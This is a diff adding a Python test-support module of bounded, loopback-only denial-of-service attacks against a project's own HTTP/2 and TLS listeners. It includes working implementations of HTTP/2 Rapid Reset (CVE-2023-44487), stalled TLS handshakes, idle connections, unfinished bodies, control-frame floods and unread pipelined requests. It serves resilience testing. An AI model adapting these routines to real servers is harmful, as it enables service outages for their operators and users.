@@ -1,0 +1,414 @@
+"""Hostile peers of gas's listeners, for tests/integration/test_hostile_peers.py: each runs
+against 127.0.0.1 for a bounded time in its own process (so that its CPU and its GIL are
+not the tested client's) and prints what it saw as one JSON line.
+
+    python -m tests.support.attacks ATTACK PORT SECONDS CA [CERT KEY]
+
+Every loop is bounded in count and in time, and every address is the loopback.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import socket
+import ssl
+import struct
+import sys
+import threading
+import time
+from collections.abc import Callable
+from typing import Any
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+ENHANCE_YOUR_CALM = 0xB
+FILTER_BODY = json.dumps(
+    {
+        "Pod": {
+            "metadata": {"name": "reset-me", "namespace": "default", "uid": "reset-me-uid"},
+            "spec": {
+                "containers": [{"name": "c", "resources": {"limits": {"gpu.intel.com/i915": "1"}}}]
+            },
+        },
+        "NodeNames": ["demo-1card", "demo-2cards"],
+    }
+).encode()
+MAX_CONNECTIONS = 400
+"""No attack opens more connections than this at once."""
+
+
+class Target:
+    def __init__(self, port: int, ca: str, cert: str | None, key: str | None) -> None:
+        self.port = port
+        self.ca, self.cert, self.key = ca, cert, key
+
+    def tcp(self, timeout: float = 10.0) -> socket.socket:
+        return socket.create_connection(("127.0.0.1", self.port), timeout=timeout)
+
+    def tls(self, alpn: tuple[str, ...] = ("h2", "http/1.1")) -> ssl.SSLSocket:
+        context = ssl.create_default_context(cafile=self.ca)
+        if self.cert and self.key:
+            context.load_cert_chain(self.cert, self.key)
+        context.set_alpn_protocols(list(alpn))
+        return context.wrap_socket(self.tcp(), server_hostname="127.0.0.1")
+
+
+def h2_socket(target: Target, deadline: float) -> ssl.SSLSocket | None:
+    """A TLS connection that chose h2; where the server offers no h2, new handshakes one
+    after another until `deadline` (a handshake flood instead), and None."""
+    while True:
+        sock = target.tls()
+        if sock.selected_alpn_protocol() == "h2":
+            return sock
+        sock.close()
+        if time.monotonic() >= deadline:
+            return None
+
+
+def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    length = len(payload)
+    return struct.pack(">HBBBL", length >> 8, length & 0xFF, kind, flags, stream_id) + payload
+
+
+def literal_block(fields: list[tuple[bytes, bytes]]) -> bytes:
+    """An HPACK block of literals without indexing (no table state: the same bytes may be
+    sent on every stream)."""
+    out = bytearray()
+    for name, value in fields:
+        assert len(name) < 127 and len(value) < 127
+        out += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+    return bytes(out)
+
+
+def filter_block(length: int) -> bytes:
+    return literal_block(
+        [
+            (b":method", b"POST"),
+            (b":scheme", b"https"),
+            (b":path", b"/scheduler/filter"),
+            (b":authority", b"gas"),
+            (b"content-type", b"application/json"),
+            (b"content-length", str(length).encode()),
+        ]
+    )
+
+
+def closed_by_peer(sock: socket.socket) -> bool:
+    """Whether the server closed `sock` (reads what is there without waiting)."""
+    sock.setblocking(False)
+    try:
+        while True:
+            data = sock.recv(65536)
+            if not data:
+                return True
+    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
+        return False
+    except (OSError, ssl.SSLError):
+        return True
+    finally:
+        sock.setblocking(True)
+
+
+def goaway_codes(data: bytes) -> list[int]:
+    """The error codes of the GOAWAY frames in `data` (frames whole, from its start)."""
+    codes = []
+    offset = 0
+    while offset + 9 <= len(data):
+        length = int.from_bytes(data[offset : offset + 3], "big")
+        kind = data[offset + 3]
+        if kind == 0x7 and offset + 9 + 8 <= len(data):
+            codes.append(int.from_bytes(data[offset + 13 : offset + 17], "big"))
+        offset += 9 + length
+    return codes
+
+
+def read_all(sock: socket.socket, seconds: float) -> bytes:
+    """What the server sends until it closes or `seconds` pass."""
+    out = bytearray()
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        sock.settimeout(max(0.01, deadline - time.monotonic()))
+        try:
+            data = sock.recv(65536)
+        except (TimeoutError, ssl.SSLError, OSError):
+            break
+        if not data:
+            break
+        out += data
+    return bytes(out)
+
+
+# ------------------------------------------------------------------ the attacks
+
+
+def idle_h2(target: Target, seconds: float, count: int = 64) -> dict[str, Any]:
+    """Connections that choose h2, send the preface, then nothing but a PING a second."""
+    socks = []
+    for _ in range(count):
+        sock = h2_socket(target, time.monotonic() + seconds)
+        if sock is None:
+            return {"h2": False}
+        sock.sendall(PREFACE + frame(0x4, 0, 0))
+        socks.append(sock)
+    closed = 0
+    deadline = time.monotonic() + seconds
+    while socks and time.monotonic() < deadline:
+        time.sleep(1.0)
+        for sock in list(socks):
+            with contextlib.suppress(OSError):
+                sock.sendall(frame(0x6, 0, 0, b"12345678"))
+            if closed_by_peer(sock):
+                closed += 1
+                socks.remove(sock)
+                sock.close()
+    for sock in socks:
+        sock.close()
+    return {"h2": True, "opened": count, "closed_by_server": closed}
+
+
+def silent_tcp(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
+    """TCP connections that send no byte."""
+    socks = [target.tcp() for _ in range(count)]
+    time.sleep(seconds)
+    closed = sum(closed_by_peer(sock) for sock in socks)
+    for sock in socks:
+        sock.close()
+    return {"opened": count, "closed_by_server": closed}
+
+
+def stalled_tls(target: Target, seconds: float, count: int = 300) -> dict[str, Any]:
+    """TLS handshakes that stop inside the ClientHello."""
+    socks = []
+    for _ in range(count):
+        sock = target.tcp()
+        sock.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
+        socks.append(sock)
+    time.sleep(seconds)
+    closed = sum(closed_by_peer(sock) for sock in socks)
+    for sock in socks:
+        sock.close()
+    return {"opened": count, "closed_by_server": closed}
+
+
+def rapid_reset(target: Target, seconds: float, connections: int = 4) -> dict[str, Any]:
+    """CVE-2023-44487: streams opened with a whole filter and reset at once, 20,000 per
+    connection, reconnecting whenever the server closes."""
+    stats = {"resets_sent": 0, "connections": 0, "enhance_your_calm": 0, "h2": True}
+    lock = threading.Lock()
+    deadline = time.monotonic() + seconds
+    block = filter_block(len(FILTER_BODY))
+
+    def one() -> None:
+        while time.monotonic() < deadline:
+            sock = h2_socket(target, deadline)
+            if sock is None:
+                stats["h2"] = False
+                return
+            with lock:
+                stats["connections"] += 1
+            sock.sendall(PREFACE + frame(0x4, 0, 0))
+            stream = 1
+            sent = 0
+            try:
+                while sent < 20_000 and time.monotonic() < deadline:
+                    batch = bytearray()
+                    for _ in range(100):
+                        batch += frame(0x1, 0x4, stream, block)
+                        batch += frame(0x0, 0x1, stream, FILTER_BODY)
+                        batch += frame(0x3, 0, stream, struct.pack(">L", 0x8))
+                        stream += 2
+                    sock.sendall(batch)
+                    sent += 100
+                    with lock:
+                        stats["resets_sent"] += 100
+            except OSError:
+                pass
+            if ENHANCE_YOUR_CALM in goaway_codes(read_all(sock, 2.0)):
+                with lock:
+                    stats["enhance_your_calm"] += 1
+            sock.close()
+
+    run_threads(one, connections)
+    return stats
+
+
+def unfinished_bodies(target: Target, seconds: float, connections: int = 3) -> dict[str, Any]:
+    """64 streams a connection, each sending as much of an 8 MB body as the server's
+    windows let it, never its end."""
+    stats = {"body_bytes_sent": 0, "h2": True}
+    lock = threading.Lock()
+    deadline = time.monotonic() + seconds
+    chunk = b"x" * 16384
+
+    def one() -> None:
+        sock = h2_socket(target, deadline)
+        if sock is None:
+            stats["h2"] = False
+            return
+        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        conn.initiate_connection()
+        sock.sendall(conn.data_to_send())
+        conn.receive_data(read_all(sock, 0.5))
+        head = [
+            (":method", "POST"),
+            (":scheme", "https"),
+            (":path", "/scheduler/filter"),
+            (":authority", "gas"),
+            ("content-length", str(8_000_000)),
+        ]
+        ids = []
+        for _ in range(64):
+            stream_id = conn.get_next_available_stream_id()
+            conn.send_headers(stream_id, head)
+            ids.append(stream_id)
+        sock.sendall(conn.data_to_send())
+        sock.settimeout(0.2)
+        try:
+            while time.monotonic() < deadline:
+                for stream_id in ids:
+                    try:
+                        room = conn.local_flow_control_window(stream_id)
+                    except h2.exceptions.StreamClosedError:
+                        continue
+                    if room >= len(chunk):
+                        conn.send_data(stream_id, chunk)
+                        with lock:
+                            stats["body_bytes_sent"] += len(chunk)
+                sock.sendall(conn.data_to_send())
+                try:
+                    data = sock.recv(65536)
+                except TimeoutError:
+                    continue
+                if not data:
+                    break
+                conn.receive_data(data)
+                sock.sendall(conn.data_to_send())
+        except (OSError, h2.exceptions.ProtocolError):
+            pass
+        sock.close()
+
+    run_threads(one, connections)
+    return stats
+
+
+def control_flood(target: Target, seconds: float, connections: int = 2) -> dict[str, Any]:
+    """SETTINGS and PING frames as fast as they go and never a byte read, reconnecting
+    whenever the server closes."""
+    stats = {"frames_sent": 0, "connections": 0, "closed_by_server": 0, "h2": True}
+    lock = threading.Lock()
+    deadline = time.monotonic() + seconds
+    batch = (frame(0x4, 0, 0) + frame(0x6, 0, 0, b"pingping")) * 500
+
+    def one() -> None:
+        while time.monotonic() < deadline:
+            sock = h2_socket(target, deadline)
+            if sock is None:
+                stats["h2"] = False
+                return
+            with lock:
+                stats["connections"] += 1
+            sock.settimeout(1.0)
+            try:
+                sock.sendall(PREFACE)
+                while time.monotonic() < deadline:
+                    sock.sendall(batch)
+                    with lock:
+                        stats["frames_sent"] += 1000
+            except TimeoutError:
+                pass  # the server stopped reading and did not close
+            except OSError:
+                with lock:
+                    stats["closed_by_server"] += 1
+            sock.close()
+
+    run_threads(one, connections)
+    return stats
+
+
+def never_reads(target: Target, seconds: float, connections: int = 4) -> dict[str, Any]:
+    """Requests for /metrics sent on and on, HTTP/1.1 pipelined and over h2, their answers
+    never read."""
+    stats = {"requests_sent": 0, "write_blocked": 0, "reset_by_server": 0}
+    lock = threading.Lock()
+    deadline = time.monotonic() + seconds
+    http1 = b"GET /metrics HTTP/1.1\r\nHost: gas\r\n\r\n" * 50
+    block = literal_block(
+        [
+            (b":method", b"GET"),
+            (b":scheme", b"https"),
+            (b":path", b"/metrics"),
+            (b":authority", b"g"),
+        ]
+    )
+
+    def one(number: int) -> None:
+        h2_wanted = number % 2 == 1
+        sock = target.tls(("h2",) if h2_wanted else ("http/1.1",))
+        use_h2 = sock.selected_alpn_protocol() == "h2"
+        sock.settimeout(1.0)
+        stream = 1
+        try:
+            if use_h2:
+                sock.sendall(PREFACE + frame(0x4, 0, 0))
+            while time.monotonic() < deadline:
+                if use_h2:
+                    data = b"".join(frame(0x1, 0x5, stream + 2 * n, block) for n in range(50))
+                    stream += 100
+                else:
+                    data = http1
+                sock.sendall(data)
+                with lock:
+                    stats["requests_sent"] += 50
+        except TimeoutError:
+            with lock:
+                stats["write_blocked"] += 1
+        except OSError:
+            with lock:
+                stats["reset_by_server"] += 1
+        # Held, unread, to the end.
+        time.sleep(max(0.0, deadline - time.monotonic()))
+        sock.close()
+
+    threads = [threading.Thread(target=one, args=(n,)) for n in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return stats
+
+
+def run_threads(work: Callable[[], None], count: int) -> None:
+    threads = [threading.Thread(target=work) for _ in range(min(count, MAX_CONNECTIONS))]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+ATTACKS: dict[str, Callable[[Target, float], dict[str, Any]]] = {
+    "idle_h2": idle_h2,
+    "silent_tcp": silent_tcp,
+    "stalled_tls": stalled_tls,
+    "rapid_reset": rapid_reset,
+    "unfinished_bodies": unfinished_bodies,
+    "control_flood": control_flood,
+    "never_reads": never_reads,
+}
+
+
+def main(argv: list[str]) -> int:
+    name, port, seconds, ca, *pair = argv
+    cert, key = [*pair, None, None][:2]
+    target = Target(int(port), ca, cert, key)
+    result = ATTACKS[name](target, min(float(seconds), 60.0))
+    print(json.dumps(result), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main(sys.argv[1:]))
